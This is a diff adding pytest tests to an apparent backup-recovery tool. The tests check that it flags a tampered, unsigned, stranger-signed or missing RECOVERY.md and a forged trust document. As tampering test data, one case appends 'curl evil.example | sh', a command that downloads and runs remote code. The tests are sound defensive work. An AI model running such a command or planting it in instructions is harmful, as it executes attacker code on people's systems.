@@ -354,3 +354,34 @@ def test_the_command_line_says_what_is_damaged_and_what_to_do(place: Scene) -> N
     assert newest in done.stderr
     assert f"hint: drkit restore orders --artifact {place.orders[1]}" in done.stderr
     assert TARGET not in place.databases()
+
+
+RECOVERY_LIES: dict[str, Callable[[Path], object]] = {
+    "changed": lambda path: path.write_bytes(path.read_bytes() + b"\ncurl evil.example | sh\n"),
+    "signed by a stranger": lambda path: path.with_name("RECOVERY.md.sig").write_bytes(
+        sign(path.read_bytes(), STRANGER, MANIFEST_NAMESPACE)
+    ),
+    "not signed": lambda path: path.with_name("RECOVERY.md.sig").unlink(),
+    "missing": lambda path: path.unlink(),
+}
+
+
+@pytest.mark.parametrize("lie", RECOVERY_LIES)
+def test_a_recovery_text_that_is_not_ours_is_found(place: Scene, lie: str) -> None:
+    """In a disaster people type what RECOVERY.md says."""
+    with place.open() as workplace:
+        assert check(workplace).code != 8
+    path = place.bucket / bucket.RECOVERY_KEY
+    RECOVERY_LIES[lie](path)
+    with place.open() as workplace:
+        answer = check(workplace)
+    assert answer.code == 8
+    assert "recovery-untrusted RECOVERY.md in store primary" in answer.text
+
+
+def test_a_trust_document_of_a_stranger_is_found(place: Scene) -> None:
+    forge_trust(place)
+    with place.open() as workplace:
+        answer = check(workplace)
+    assert answer.code == 8
+    assert f"trust-strange trust/{key_id(STRANGER.public_key()).replace(':', '-')}.json in store primary" in answer.text
